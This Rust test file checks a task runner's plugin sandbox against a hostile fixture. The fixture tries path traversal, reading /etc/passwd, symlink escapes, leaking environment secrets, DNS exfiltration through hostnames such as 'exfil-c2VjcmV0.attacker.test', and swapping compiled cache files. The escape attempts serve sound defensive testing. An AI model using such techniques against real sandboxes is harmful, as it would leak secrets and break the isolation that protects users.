//! The hostile fixture tries every escape; each must be refused, naming what
//! was refused.

use std::net::TcpListener;

use crate::test::Test;

fn fixture(mode_config: &str, allow: &str) -> String {
    format!(
        "[tasks.t]\nplugin = \"{{fixture}}\"\nconfig = {{ {mode_config} }}\nallow = {{ {allow} }}\n"
    )
}

#[test]
fn reads_inside_a_read_grant() {
    Test::new()
        .tasks(&fixture(
            r#"mode = "read", path = "data/in.txt""#,
            r#"read = ["data"]"#,
        ))
        .file("data/in.txt", "inside\n")
        .args(&["t"])
        .stdout("inside\n")
        .run();
}

#[test]
fn parent_traversal_is_refused() {
    Test::new()
        .tasks(&fixture(
            r#"mode = "read", path = "data/../secret.txt""#,
            r#"read = ["data"]"#,
        ))
        .file("data/in.txt", "inside\n")
        .file("secret.txt", "SECRET\n")
        .args(&["t"])
        .stderr_contains("denied")
        .stderr_contains("data/../secret.txt")
        .stderr_lacks("SECRET")
        .status(1)
        .run();
}

#[test]
fn absolute_paths_are_refused() {
    Test::new()
        .tasks(&fixture(
            r#"mode = "read", path = "/etc/passwd""#,
            r#"read = ["data"]"#,
        ))
        .dir("data")
        .args(&["t"])
        .stderr_contains("denied")
        .stderr_contains("/etc/passwd")
        .status(1)
        .run();
}

#[test]
fn symlinks_out_of_a_grant_are_refused() {
    let test = Test::new()
        .tasks(&fixture(
            r#"mode = "symlink-read", path = "data/link""#,
            r#"read = ["data"]"#,
        ))
        .file("secret.txt", "SECRET\n")
        .dir("data");
    std::os::unix::fs::symlink(test.path("secret.txt"), test.path("data/link")).unwrap();
    test.args(&["t"])
        .stderr_contains("data/link")
        .stderr_lacks("SECRET")
        .status(1)
        .run();
}

#[test]
fn relative_symlinks_out_of_a_grant_are_refused() {
    let test = Test::new()
        .tasks(&fixture(
            r#"mode = "symlink-read", path = "data/link""#,
            r#"read = ["data"]"#,
        ))
        .file("secret.txt", "SECRET\n")
        .dir("data");
    std::os::unix::fs::symlink("../secret.txt", test.path("data/link")).unwrap();
    test.args(&["t"])
        .stderr_contains("data/link")
        .stderr_lacks("SECRET")
        .status(1)
        .run();
}

#[test]
fn ungranted_directories_do_not_exist_for_the_plugin() {
    Test::new()
        .tasks(&fixture(
            r#"mode = "list", path = "other""#,
            r#"read = ["data"]"#,
        ))
        .file("other/file.txt", "x")
        .dir("data")
        .args(&["t"])
        .stderr_contains("`other`")
        .status(1)
        .run();
}

#[test]
fn read_grants_are_read_only() {
    let (_, test) = Test::new()
        .tasks(&fixture(
            r#"mode = "write", path = "data/new.txt", content = "x""#,
            r#"read = ["data"]"#,
        ))
        .dir("data")
        .args(&["t"])
        .stderr_contains("denied")
        .stderr_contains("data/new.txt")
        .status(1)
        .run();
    assert!(!test.path("data/new.txt").exists());
}

#[test]
fn write_grants_allow_writing_and_are_created() {
    let (_, test) = Test::new()
        .tasks(&fixture(
            r#"mode = "write", path = "out/sub.txt", content = "x""#,
            r#"write = ["out"]"#,
        ))
        .args(&["t"])
        .stdout("wrote out/sub.txt\n")
        .run();
    assert_eq!(
        std::fs::read_to_string(test.path("out/sub.txt")).unwrap(),
        "x"
    );
}

#[test]
fn host_environment_does_not_leak() {
    Test::new()
        .tasks(&fixture(r#"mode = "env""#, ""))
        .env("SECRET_TOKEN", "hunter2")
        .args(&["t"])
        .stdout("")
        .run();
}

#[test]
fn environment_is_passed_only_by_name() {
    Test::new()
        .tasks(
            "[tasks.t]\nplugin = \"{fixture}\"\nconfig = { mode = \"env\" }\nenv = [\"VISIBLE\", \"APP_*\"]\nallow = { env = [\"GRANTED\"] }\n",
        )
        .env("SECRET_TOKEN", "hunter2")
        .env("VISIBLE", "1")
        .env("APP_MODE", "dev")
        .env("GRANTED", "2")
        .args(&["t"])
        .stdout("APP_MODE=dev\nGRANTED=2\nVISIBLE=1\n")
        .run();
}

#[test]
fn fixed_environment_values_are_set() {
    Test::new()
        .tasks("[tasks.t]\nplugin = \"{fixture}\"\nconfig = { mode = \"env\" }\nenv = { MODE = \"fixed\" }\n")
        .env("MODE", "host")
        .args(&["t"])
        .stdout("MODE=fixed\n")
        .run();
}

#[test]
fn unlisted_addresses_are_refused() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    Test::new()
        .tasks(&fixture(
            &format!(r#"mode = "connect", addr = "{addr}""#),
            "",
        ))
        .args(&["t"])
        .stderr_contains(&format!("network access to {addr} refused"))
        .status(1)
        .run();
}

#[test]
fn other_ports_of_a_granted_host_are_refused() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let other = addr.port().wrapping_add(1);
    Test::new()
        .tasks(&fixture(
            &format!(r#"mode = "connect", addr = "{addr}""#),
            &format!(r#"network = ["127.0.0.1:{other}"]"#),
        ))
        .args(&["t"])
        .stderr_contains(&format!(
            "network access to {addr} denied: not in allow.network"
        ))
        .stderr_contains(&format!("network access to {addr} refused"))
        .status(1)
        .run();
}

#[test]
fn granted_addresses_connect() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    Test::new()
        .tasks(&fixture(
            &format!(r#"mode = "connect", addr = "{addr}""#),
            &format!(r#"network = ["{addr}"]"#),
        ))
        .args(&["t"])
        .stdout(&format!("connected {addr}\n"))
        .run();
}

#[test]
fn granted_host_names_resolve_and_connect() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    Test::new()
        .tasks(&fixture(
            &format!(r#"mode = "connect", addr = "127.0.0.1:{port}""#),
            r#"network = ["localhost:*"]"#,
        ))
        .args(&["t"])
        .stdout(&format!("connected 127.0.0.1:{port}\n"))
        .run();
}

#[test]
fn name_lookup_is_refused_without_a_named_grant() {
    Test::new()
        .tasks(&fixture(r#"mode = "resolve", host = "localhost""#, ""))
        .args(&["t"])
        .stderr_contains("name lookup of localhost refused")
        .status(1)
        .run();
}

/// Starts a DNS "resolver" on a random loopback address (port 53: the tests
/// run as root, like CI) that records the names it is asked and never
/// answers; returns its address and the names asked so far.
fn recording_resolver() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .subsec_nanos();
    let addr = format!(
        "127.99.{}.{}",
        std::process::id() % 250 + 1,
        nanos % 250 + 1
    );
    let socket = std::net::UdpSocket::bind((addr.as_str(), 53))
        .unwrap_or_else(|e| panic!("this test needs root, to listen on {addr}:53: {e}"));
    let asked = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let record = asked.clone();
    std::thread::spawn(move || {
        let mut packet = [0u8; 1500];
        while let Ok(len) = socket.recv(&mut packet) {
            // The question's name: length-prefixed labels after the 12-byte header.
            let mut labels = Vec::new();
            let mut at = 12;
            while at < len && packet[at] != 0 {
                let end = (at + 1 + packet[at] as usize).min(len);
                labels.push(String::from_utf8_lossy(&packet[at + 1..end]).into_owned());
                at = end;
            }
            record.lock().unwrap().push(labels.join("."));
        }
    });
    (addr, asked)
}

#[test]
fn only_names_a_grant_names_are_looked_up_and_no_query_leaves_for_others() {
    let (resolver, asked) = recording_resolver();
    let test = Test::new()
        .tasks(
            "[tasks.t]\nplugin = \"{hostile}\"\nconfig = { mode = \"resolve\", hosts = [\"exfil-c2VjcmV0.attacker.test\", \"EXFIL-2.Attacker.Test\", \"granted-name.test.evil.test\", \"granted-name.test\", \"127.0.0.1\"] }\nallow = { network = [\"granted-name.test:80\"] }\n",
        )
        .file(
            "resolv.conf",
            &format!("nameserver {resolver}\noptions timeout:1 attempts:1\n"),
        )
        .args(&["t"]);
    // `run` in a mount namespace of its own whose /etc/resolv.conf names our
    // resolver: every DNS query it (or a plugin through it) makes comes here.
    let inner = test.command();
    let mut command = std::process::Command::new("unshare");
    command
        .args([
            "--mount",
            "sh",
            "-c",
            "mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"",
        ])
        .arg(test.path("resolv.conf"))
        .arg(inner.get_program())
        .args(inner.get_args())
        .env_clear()
        .envs(
            inner
                .get_envs()
                .filter_map(|(k, v)| v.map(|v| (k.to_owned(), v.to_owned()))),
        )
        .current_dir(test.dir.path());
    let output = command.output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    let asked = asked.lock().unwrap().clone();
    let context = format!("\n--- stdout\n{stdout}\n--- stderr\n{stderr}\n--- asked {asked:?}");
    assert_eq!(output.status.code(), Some(0), "{context}");
    for denied in [
        "exfil-c2VjcmV0.attacker.test",
        "EXFIL-2.Attacker.Test",
        "granted-name.test.evil.test",
    ] {
        assert!(
            stdout.contains(&format!("{denied}: refused")),
            "{denied}{context}"
        );
        assert!(
            stderr.contains(&format!(
                "name lookup of `{denied}` denied: no allow.network grant names that host"
            )),
            "{denied}{context}"
        );
    }
    assert!(stdout.contains("127.0.0.1: 127.0.0.1"), "{context}");
    // The granted name was asked (so queries do reach this resolver) ...
    assert!(
        asked.iter().any(|name| name == "granted-name.test"),
        "{context}"
    );
    // ... and nothing else ever was.
    assert!(
        asked.iter().all(|name| name == "granted-name.test"),
        "{context}"
    );
}

/// The `DIGEST-KEY.cwasm` entry of the plugin whose sha256 starts `digest`.
fn cache_entry(cache: &std::path::Path, digest: &str) -> std::path::PathBuf {
    std::fs::read_dir(cache)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| {
            let name = p.file_name().unwrap().to_string_lossy();
            name.starts_with(digest) && name.ends_with(".cwasm")
        })
        .unwrap_or_else(|| panic!("no cache entry for {digest} in {}", cache.display()))
}

#[test]
fn a_compiled_file_swapped_by_a_granted_task_is_refused_and_the_pinned_plugin_runs() {
    use crate::test::HOSTILE;
    use sha2::Digest;
    let test = Test::new()
        .tasks(
            "[tasks.greet]\nplugin = \"hello.wasm\"\nallow = { write = [\"out\"] }\n\n[tasks.warm]\nplugin = \"{hostile}\"\nconfig = { mode = \"mode\" }\n",
        )
        .dir("cache");
    // hello as a path plugin: a built-in runs embedded code, never the cache's.
    std::fs::copy(crate::test::builtin_wasm("hello"), test.path("hello.wasm")).unwrap();
    let cache = test.path("cache");
    let env = [("RUN_CACHE_DIR", cache.to_str().unwrap())];
    test.invoke_env(&env, &["greet"]).ok();
    test.invoke_env(&env, &["warm"]).ok();
    let hostile = cache_entry(
        &cache,
        &hex::encode(sha2::Sha256::digest(std::fs::read(HOSTILE).unwrap())),
    );
    let hello = std::fs::read_dir(&cache)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.extension().is_some_and(|x| x == "cwasm") && *p != hostile)
        .unwrap();
    let name = |p: &std::path::Path| p.file_name().unwrap().to_string_lossy().into_owned();

    // A task granted the cache directory puts its own compiled code under
    // hello's name. In its run the cache is not used at all.
    std::fs::write(
        test.path("tasks.toml"),
        format!(
            "[tasks.greet]\nplugin = \"hello.wasm\"\nallow = {{ write = [\"out\"] }}\n\n[tasks.swap]\nplugin = \"{HOSTILE}\"\nconfig = {{ mode = \"copy\", from = \"cache/{}\", to = \"cache/{}\" }}\nallow = {{ write = [\"cache\"] }}\n",
            name(&hostile),
            name(&hello)
        ),
    )
    .unwrap();
    test.invoke_env(&env, &["swap"])
        .ok()
        .stdout_contains("copied cache/")
        .stderr_contains(&format!(
            "not using the compile cache in this run: the compile cache ({}) lies inside `cache`, which task `swap` is granted",
            cache.canonicalize().unwrap().display()
        ));
    assert_eq!(
        std::fs::read(&hello).unwrap(),
        std::fs::read(&hostile).unwrap()
    );

    // The next run refuses the swapped file and runs hello itself.
    test.invoke_env(&env, &["greet"])
        .ok()
        .stdout_contains("Hello, world!")
        .stderr_contains(&format!(
            "compile cache: discarding {}: it was not written by this runner for this plugin (its MAC does not verify); compiling the plugin again",
            hello.display()
        ));
    assert!(test.path("out/hello.txt").exists());
    // The entry was rewritten: the run after that loads it without a word.
    test.invoke_env(&env, &["greet"])
        .ok()
        .stdout_contains("Hello, world!")
        .stderr_lacks("compile cache");
}

#[test]
fn a_cache_key_inside_a_grant_turns_the_cache_off_for_the_run() {
    let test = Test::new()
        .tasks("[tasks.t]\nplugin = \"{hostile}\"\nconfig = { mode = \"mode\" }\nallow = { read = [\"keys\"] }\n")
        .dir("keys");
    let cache = tempfile::tempdir().unwrap();
    let key = test.path("keys").canonicalize().unwrap().join("cache.key");
    test.invoke_env(
        &[
            ("RUN_CACHE_DIR", cache.path().to_str().unwrap()),
            ("RUN_CACHE_KEY", key.to_str().unwrap()),
        ],
        &["t"],
    )
    .ok()
    .stdout_contains("mode=run")
    .stderr_contains(&format!(
        "not using the compile cache in this run: the compile cache's key ({}) lies inside `keys`, which task `t` is granted",
        key.display()
    ));
    // No key was even created, and nothing compiled was written.
    assert!(!key.exists());
    let compiled = std::fs::read_dir(cache.path())
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "cwasm")
        })
        .count();
    assert_eq!(compiled, 0);
}
